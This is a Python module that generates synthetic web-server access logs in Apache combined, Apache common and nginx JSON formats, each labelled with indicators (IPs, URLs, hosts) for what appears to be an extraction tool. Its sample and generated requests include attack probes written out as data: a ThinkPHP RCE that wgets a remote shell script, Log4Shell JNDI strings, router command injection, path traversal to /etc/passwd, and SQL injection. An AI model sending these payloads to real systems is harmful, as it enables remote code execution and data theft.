"""Web server access logs: Apache/nginx combined and common format, nginx JSON."""

from __future__ import annotations

import json

from .core import Lines, Synth, register
from .labels import Labels, host, ip, mail, url


def _request(s: Synth) -> tuple[str, str, int, Labels]:
    """(method, target, status, indicators in the target) for one request."""
    roll = s.rng.random()
    if roll < 0.68:
        return ("GET" if s.chance(0.9) else "POST"), s.pick("path"), s.rng.choice(
            [200, 200, 200, 200, 304, 301, 302, 404]), set()
    if roll < 0.85:
        return s.rng.choice(["GET", "GET", "POST", "HEAD"]), s.pick("attack_path"), s.rng.choice(
            [404, 404, 403, 400, 200]), set()
    kind = s.rng.randrange(11)
    bad = s.pick("bad_domain")
    if kind == 0:  # session ids in query strings are not file hashes
        return "GET", f"/cart?PHPSESSID={s.hex(32)}", 200, set()
    if kind == 1:
        return "GET", f"/account/orders?sid={s.hex(40)}&page=2", 200, set()
    if kind == 2:
        return "GET", f"/api/v1/session?token={s.hex(64)}", 401, set()
    if kind == 3:  # open-redirect probe with an encoded absolute URL
        return "GET", f"/redirect?url=https%3A%2F%2F{bad}%2Flogin", 302, url(f"https://{bad}/login")
    if kind == 4:  # scheme-relative, encoded: the host is a domain
        return "GET", f"/out?to=%2F%2F{bad}", 302, host(bad)
    if kind == 5:  # open-proxy probes
        dom = s.pick("benign_domain")
        return "GET", f"http://{dom}/", 404, url(f"http://{dom}/")
    if kind == 6:
        dom = s.pick("benign_domain")
        return "CONNECT", f"{dom}:443", 405, host(dom)
    if kind == 7:  # ThinkPHP RCE dropping a script; %20 ends the URL once decoded
        addr = s.pick("public_ip")
        target = ("/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array"
                  f"&vars[0]=system&vars[1][]=wget%20http://{addr}/x.sh%20-O%20/tmp/x.sh")
        return "GET", target, 200, url(f"http://{addr}/x.sh")
    if kind == 8:
        return "GET", f"/download?file=../../../../etc/passwd&h={s.hex(12)}", 403, set()
    if kind == 9:
        return "GET", "/shop/item?id=1%27%20OR%20%271%27=%271", 500, set()
    addr = s.pick("public_ip")  # Log4Shell probe: an ldap:// target is not a web URL, its host is
    return "GET", f"/?x=${{jndi:ldap://{addr}:1389/a}}", 400, ip(addr)


def _apache_time(s: Synth) -> str:
    return s.tick().strftime("%d/%b/%Y:%H:%M:%S +0000")


def _client(s: Synth) -> tuple[str, Labels]:
    addr = s.client_ip()
    return addr, ip(addr)


def _ua(s: Synth) -> tuple[str, Labels]:
    agent, urls, mails = s.pick("ua")
    labels: Labels = set()
    for u in urls:
        labels |= url(u)
    for m in mails:
        labels |= mail(m)
    return agent, labels


def _combined(s: Synth) -> tuple[str, Labels]:
    addr, labels = _client(s)
    method, target, status, more = _request(s)
    size = 0 if status in (304, 301, 302) else s.rng.randrange(120, 90000)
    ref, ref_labels = s.pick("referer")
    agent, ua_labels = _ua(s)
    user = s.pick("good_user") if s.chance(0.03) else "-"
    line = (f'{addr} - {user} [{_apache_time(s)}] "{method} {target} HTTP/1.1" {status} {size} '
            f'"{ref}" "{agent}"')
    return line, labels | more | ref_labels | ua_labels


@register("apache_combined", "apache_access.log", [
    ('198.51.100.23 - - [12/Mar/2024:06:31:02 +0000] "GET /static/js/app.js?v=2.4.58 HTTP/1.1" '
     '200 8812 "https://www.acme-widgets.com/" "Mozilla/5.0 (X11; Linux x86_64; rv:109.0) '
     'Gecko/20100101 Firefox/115.0"', ip("198.51.100.23") | url("https://www.acme-widgets.com/")),
    ('45.95.147.236 - - [12/Mar/2024:06:40:17 +0000] "GET /cgi-bin/luci/;stok=/locale?form=country'
     '&operation=write&country=$(id%3Ewget%20hxxp://45.95.147[.]236/tenda.sh) HTTP/1.1" 404 196 "-" '
     '"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) '
     'Chrome/120.0.6099.109 Safari/537.36"', ip("45.95.147.236") | url("http://45.95.147.236/tenda.sh")),
    ('203.0.113.77 - - [12/Mar/2024:07:02:55 +0000] "GET /files/backup.zip HTTP/1.1" 404 153 '
     '"-" "Wget/1.21.2"', ip("203.0.113.77")),
    ('203.0.113.77 - - [12/Mar/2024:07:02:56 +0000] "GET /999.1.1.1/010.001.002.003/1.2.3.4.5 '
     'HTTP/1.1" 404 153 "-" "Wget/1.21.2"', ip("203.0.113.77")),
    ('[2001:db8:85a3::8a2e:370:7334] - - [12/Mar/2024:07:10:00 +0000] "GET / HTTP/1.1" 200 512 "-" '
     '"curl/8.4.0"', ip("2001:db8:85a3::8a2e:370:7334")),
    ('::1 - - [12/Mar/2024:07:10:02 +0000] "OPTIONS * HTTP/1.0" 200 126 "-" '
     '"Apache/2.4.58 (Debian) OpenSSL/3.0.11 (internal dummy connection)"', ip("::1")),
    ('192.0.2.14 - - [12/Mar/2024:07:11:45 +0000] "GET /wp-admin/admin-ajax.php?action=revslider_'
     'show_image&img=../wp-config.php HTTP/1.1" 404 153 "http://WWW.Acme-Widgets.com/Blog/" '
     '"Mozilla/5.0"', ip("192.0.2.14") | url("http://www.acme-widgets.com/Blog/")),
])
def apache_combined(s: Synth) -> Lines:
    return [_combined(s)]


@register("nginx_combined", "nginx_access.log", [
    ('185.224.128.17 - - [12/Mar/2024:06:28:11 +0000] "\\x16\\x03\\x01\\x00\\xEE\\x01\\x00\\x00\\xEA'
     '\\x03\\x03\\x8D\\xA6\\x1B\\xC4" 400 157 "-" "-"', ip("185.224.128.17")),
    ('185.224.128.17 - - [12/Mar/2024:06:28:12 +0000] "GET / HTTP/1.1" 400 255 "-" '
     '"${jndi:ldap://185.224.128.17:1389/Basic/Command/Base64/d2dldCBodHRw}"', ip("185.224.128.17")),
    ('10.0.3.4 - - [12/Mar/2024:06:59:30 +0000] "POST /api/v1/cart/items HTTP/1.1" 201 64 '
     '"https://shop.acme-widgets.com/cart?sid=5f4dcc3b5aa765d61d8327deb882cf99" "okhttp/4.9.3"',
     ip("10.0.3.4") | url("https://shop.acme-widgets.com/cart?sid=5f4dcc3b5aa765d61d8327deb882cf99")),
    ('198.51.100.200 - - [12/Mar/2024:07:20:00 +0000] "GET /go?u=http%3A%2F%2Fcdn-jquery.info%2Fjq'
     '.min.js HTTP/1.1" 302 0 "-" "Mozilla/5.0 (compatible; MSIE 9.0; Windows NT 6.1; Trident/5.0)"',
     ip("198.51.100.200") | url("http://cdn-jquery.info/jq.min.js")),
])
def nginx_combined(s: Synth) -> Lines:
    return [_combined(s)]


@register("apache_common", "apache_common.log", [
    ('10.20.0.5 - svc_backup [12/Mar/2024:06:45:00 +0000] "PUT /dav/backup.zip HTTP/1.1" 201 0',
     ip("10.20.0.5")),
    ('203.0.113.9 - - [12/Mar/2024:06:46:10 +0000] "GET /app.py HTTP/1.1" 404 196', ip("203.0.113.9")),
    ('203.0.113.9 - - [12/Mar/2024:06:46:11 +0000] "GET /jkstatus/workers2.properties HTTP/1.1" 404 '
     '196', ip("203.0.113.9")),
])
def apache_common(s: Synth) -> Lines:
    addr, labels = _client(s)
    method, target, status, more = _request(s)
    size = "-" if status in (304, 301, 302) else str(s.rng.randrange(120, 90000))
    user = s.pick("good_user") if s.chance(0.05) else "-"
    return [(f'{addr} - {user} [{_apache_time(s)}] "{method} {target} HTTP/1.1" {status} {size}',
             labels | more)]


@register("nginx_json", "nginx_json.log", [
    (json.dumps({"time_local": "12/Mar/2024:07:30:00 +0000", "remote_addr": "203.0.113.50",
                 "request": "GET /login HTTP/1.1", "status": 200, "http_referrer": "",
                 "http_user_agent": "Mozilla/5.0", "request_id": "0c4f0f2b8e1f4d6a9b3c5d7e8f9a0b1c",
                 "host": "shop.acme-widgets.com", "upstream_addr": "[::1]:8080",
                 "http_x_forwarded_for": "-", "mac": "52:54:00:12:34:56"}),
     ip("203.0.113.50") | host("shop.acme-widgets.com") | ip("::1")),
])
def nginx_json(s: Synth) -> Lines:
    addr, labels = _client(s)
    method, target, status, more = _request(s)
    ref, ref_labels = s.pick("referer")
    agent, ua_labels = _ua(s)
    site = s.pick("site_host")
    labels |= more | ref_labels | ua_labels | host(site)
    xff = "-"
    if s.chance(0.3):
        origin = s.pick("public_ip")
        xff = f"{origin}, {addr}"
        labels |= ip(origin)
    upstream = s.pick("private_ip")
    labels |= ip(upstream)
    record = {
        "time_local": s.tick().strftime("%d/%b/%Y:%H:%M:%S +0000"), "remote_addr": addr,
        "remote_user": "", "request": f"{method} {target} HTTP/2.0", "status": status,
        "body_bytes_sent": s.rng.randrange(0, 60000),
        "request_time": round(s.rng.random() / 5, 3), "http_referrer": "" if ref == "-" else ref,
        "http_user_agent": agent, "http_x_forwarded_for": xff, "host": site,
        "request_id": s.hex(32), "upstream_addr": f"{upstream}:8080",
        "upstream_response_time": f"{s.rng.random() / 5:.3f}", "ssl_protocol": "TLSv1.3",
        "ssl_cipher": "TLS_AES_256_GCM_SHA384",
    }
    return [(json.dumps(record, separators=(",", ":")), labels)]

